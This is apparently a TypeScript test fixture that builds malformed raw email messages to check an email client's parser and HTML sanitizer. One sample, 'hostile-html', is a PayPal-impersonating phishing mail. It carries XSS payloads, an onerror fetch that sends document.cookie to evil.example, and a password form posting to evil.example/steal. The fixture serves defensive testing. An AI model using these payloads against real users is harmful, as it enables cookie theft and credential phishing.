// Nasty-but-realistic raw messages for robustness tests (parser, sanitizer, sync).
import { htmlMail, legacyHtml } from './legacy-charset-mail.js'

/**
 * Nasty-but-realistic messages a client must survive without crashing or leaking script.
 * Each starts with an X-Rapport-Sample header naming the case.
 */
export function brokenMimeSamples(): Buffer[] {
  const crlf = (lines: string[]): Buffer => Buffer.from(lines.join('\r\n') + '\r\n', 'latin1')
  const date = 'Date: Mon, 03 Mar 2025 10:00:00 +0700'
  return [
    crlf([
      'X-Rapport-Sample: missing-message-id',
      'From: Budi <budi.santoso@example.co.id>',
      'To: me@example.test',
      'Subject: No Message-ID here',
      date,
      '',
      'Old mailers sometimes forget the Message-ID.'
    ]),
    crlf([
      'X-Rapport-Sample: truncated-multipart',
      'From: a@example.com',
      'To: me@example.test',
      'Subject: Truncated multipart',
      'Message-ID: <truncated-1@example.com>',
      date,
      'MIME-Version: 1.0',
      'Content-Type: multipart/mixed; boundary="XYZ"',
      '',
      '--XYZ',
      'Content-Type: text/plain; charset=utf-8',
      '',
      'The closing boundary never comes.',
      '--XYZ',
      'Content-Type: application/pdf; name="cut.pdf"',
      'Content-Transfer-Encoding: base64',
      '',
      'JVBERi0xLjQKJeLjz9MK'
    ]),
    crlf([
      'X-Rapport-Sample: bad-charset',
      'From: =?x-unknown-charset?B?w6nDqMOg?= <weird@example.com>',
      'To: me@example.test',
      'Subject: =?x-made-up-8?Q?Caf=E9?=',
      'Message-ID: <bad-charset-1@example.com>',
      date,
      'MIME-Version: 1.0',
      'Content-Type: text/plain; charset="x-made-up-8"',
      'Content-Transfer-Encoding: 8bit',
      '',
      'Caf\xe9 cr\xe8me, unknown charset.'
    ]),
    crlf([
      'X-Rapport-Sample: invalid-base64',
      'From: b@example.com',
      'To: me@example.test',
      'Subject: Invalid base64 body',
      'Message-ID: <bad-b64-1@example.com>',
      date,
      'MIME-Version: 1.0',
      'Content-Type: text/plain; charset=utf-8',
      'Content-Transfer-Encoding: base64',
      '',
      'SGVsbG8@@@ this is not base64 !!! ====',
      '4pyTIMOgIGxhIG1vZGU='
    ]),
    crlf([
      'X-Rapport-Sample: header-only',
      'From: c@example.com',
      'To: me@example.test',
      'Subject: Header only, no body at all',
      'Message-ID: <header-only-1@example.com>',
      date
    ]),
    crlf([
      'X-Rapport-Sample: 8bit-garbage-headers',
      'From: \xc0\xc1\xfe\xff Gar\xe7on <garbage@example.com>',
      'To: me@example.test',
      'Subject: Raw 8-bit \xe4\xf6\xfc and \xe6\x97\xa5\xe6\x9c\xac and \xff\xfe',
      'Message-ID: <garbage-1@example.com>',
      date,
      'Content-Type: text/plain',
      '',
      'No MIME-Version, raw bytes in headers.'
    ]),
    crlf([
      'X-Rapport-Sample: hostile-html',
      'From: "PayPaI Security" <security@paypa1.example>',
      'To: me@example.test',
      'Subject: Urgent: verify your account',
      'Message-ID: <hostile-1@paypa1.example>',
      date,
      'MIME-Version: 1.0',
      'Content-Type: text/html; charset=utf-8',
      '',
      '<html><head><script>alert("head")</script>',
      '<meta http-equiv="refresh" content="0;url=https://evil.example/">',
      '<link rel="stylesheet" href="https://evil.example/track.css"></head>',
      '<body onload="alert(1)">',
      '<p>Please <a href="javascript:alert(document.cookie)">verify here</a>.</p>',
      '<img src="https://tracker.example/pixel.gif?u=me" width="1" height="1">',
      '<img src="x" onerror="fetch(\'https://evil.example/?c=\'+document.cookie)">',
      '<iframe src="https://evil.example/frame"></iframe>',
      '<form action="https://evil.example/steal" method="post"><input name="password" type="password">',
      '<button>Log in</button></form>',
      '<svg><script>alert("svg")</script></svg>',
      '<a href="  JaVaScRiPt:alert(2)">mixed case</a>',
      '<div style="background:url(https://tracker.example/bg.png)">styled</div>',
      '<object data="https://evil.example/x.swf"></object><embed src="https://evil.example/y">',
      '</body></html>'
    ]),
    Buffer.concat([
      Buffer.from('X-Rapport-Sample: html-charset-only-in-meta\r\n'),
      htmlMail(legacyHtml('gb2312', '您好，样品已经寄出。'), {
        messageId: '<meta-charset-1@163.example>',
        subject: 'GB2312 HTML, its charset only in the meta'
      })
    ])
  ]
}
